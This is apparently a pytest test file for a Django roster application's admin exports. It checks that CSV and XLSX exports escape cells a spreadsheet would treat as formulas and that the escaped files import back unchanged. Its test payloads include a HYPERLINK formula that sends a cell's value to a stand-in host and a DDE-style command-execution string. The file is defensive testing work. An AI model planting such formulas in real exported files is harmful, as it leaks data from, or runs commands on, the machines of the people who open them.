"""Exported rosters are never formulas: a cell starting with =, +, -, @, a tab or a carriage return
is neutralised in every export (admin, CSV and XLSX, every resource), and imports back as it was."""

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from members.models import Organisation
from offices.models import CouncilSeat, OfficeMembership
from tests.factories import (
    CouncilSeatFactory,
    OfficeFactory,
    OfficeMembershipFactory,
    OrganisationFactory,
    PersonFactory,
)

PAYLOADS = {
    "=": '=HYPERLINK("http://example.invalid/?"&B2,"详情")',
    "+": "+86 512 6288 8888",
    "-": "-5",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
DANGEROUS_STARTS = tuple(PAYLOADS)

# (kind for import_roster, admin export URL, model)
RESOURCES = [
    ("organisations", "/admin/members/organisation/export/", Organisation),
    ("memberships", "/admin/offices/officemembership/export/", OfficeMembership),
    ("council-seats", "/admin/offices/councilseat/export/", CouncilSeat),
]
FORMATS = {"csv": "0", "xlsx": "1"}  # positions in the admin's format menu
MODELS = {kind: model for kind, _, model in RESOURCES}


@pytest.fixture
def hostile_roster(db, request):
    """An office, an organisation and a person whose every text starts with the prefix under test;
    their slugs (imported, not only shown) start with a hyphen."""
    text = PAYLOADS[request.param]
    office = OfficeFactory(slug="-office")
    organisation = OrganisationFactory(
        slug="-organisation",
        name_zh_hans=text,
        name_en=text,
        name_zh_hant=text,
        short_name_zh_hans=text,
        short_name_en=text,
        address_zh_hans=text,
        address_en=text,
    )
    person = PersonFactory(slug="-person", organisation=organisation, name_zh_hans=text)
    OfficeMembershipFactory(office=office, organisation=organisation, batch=1)
    CouncilSeatFactory(office=office, organisation=organisation, representative=person)
    return text


def admin_export(client, url, file_format):
    form = client.get(url).context["form"]
    data = {name: "on" for name, field in form.fields.items() if field.__class__.__name__ == "BooleanField"}
    data.update(format=FORMATS[file_format], resource="0")
    response = client.post(url, data)
    assert response.status_code == 200
    return b"".join(response)


def csv_fields(content):
    return [field for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for field in row]


def xlsx_cells(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def snapshot():
    return {model: sorted(model.objects.values_list()) for _, _, model in RESOURCES}


def import_roster(tmp_path, kind, content, file_format):
    path = Path(tmp_path) / f"{kind}.{file_format}"
    path.write_bytes(content)
    stdout = io.StringIO()
    with translation.override("en"):
        call_command("import_roster", kind, str(path), stdout=stdout)
    return stdout.getvalue()


def escaped_in_xlsx(text):
    # XML reads a carriage return back as a line feed (XML 1.0, section 2.11).
    return "'" + text.replace("\r", "\n")


def assert_imports_back_unchanged(tmp_path, kind, content, file_format):
    before = snapshot()
    stdout = import_roster(tmp_path, kind, content, file_format)
    count = MODELS[kind].objects.count()
    assert f"Imported {count} rows: 0 new, 0 updated, {count} unchanged." in stdout
    assert snapshot() == before


all_prefixes = pytest.mark.parametrize("hostile_roster", DANGEROUS_STARTS, indirect=True)
every_resource = pytest.mark.parametrize("kind, url", [row[:2] for row in RESOURCES], ids=[row[0] for row in RESOURCES])


@all_prefixes
@every_resource
def test_csv_export_has_no_field_a_spreadsheet_would_run_and_imports_back(
    roster_client, hostile_roster, kind, url, tmp_path
):
    content = admin_export(roster_client, url, "csv")
    fields = csv_fields(content)
    assert [field for field in fields if field.startswith(DANGEROUS_STARTS)] == []
    assert "'" + hostile_roster in fields, "the text is kept, behind an apostrophe"
    assert "'-organisation" in fields
    assert_imports_back_unchanged(tmp_path, kind, content, "csv")


@all_prefixes
@every_resource
def test_xlsx_export_has_no_formula_keeps_the_text_and_imports_back(roster_client, hostile_roster, kind, url, tmp_path):
    content = admin_export(roster_client, url, "xlsx")
    cells = xlsx_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if text.startswith(DANGEROUS_STARTS)] == []
    assert escaped_in_xlsx(hostile_roster) in texts
    assert "'-organisation" in texts
    if hostile_roster.startswith("\r"):
        pytest.xfail("XML reads a carriage return back as a line feed, wherever it is in a cell")
    assert_imports_back_unchanged(tmp_path, kind, content, "xlsx")


def test_hand_written_numbers_import_as_written_and_escaped_text_without_its_apostrophe(tmp_path, db):
    content = (
        "slug,name_zh_hans,short_name_zh_hans,address_zh_hans,address_en\r\n-5,+86 512 6288 8888,-5,'quoted',''=1\r\n"
    )
    import_roster(tmp_path, "organisations", content.encode(), "csv")
    organisation = Organisation.objects.get()
    assert (organisation.slug, organisation.name_zh_hans, organisation.short_name_zh_hans) == (
        "-5",
        "+86 512 6288 8888",
        "-5",
    )
    assert (organisation.address_zh_hans, organisation.address_en) == ("'quoted'", "'=1")


@given(st.text())
def test_escaping_is_undone_exactly_and_never_leaves_a_formula(text):
    from core.resources import escape_formula, unescape_formula

    assert not escape_formula(text).startswith(DANGEROUS_STARTS)
    assert unescape_formula(escape_formula(text)) == text
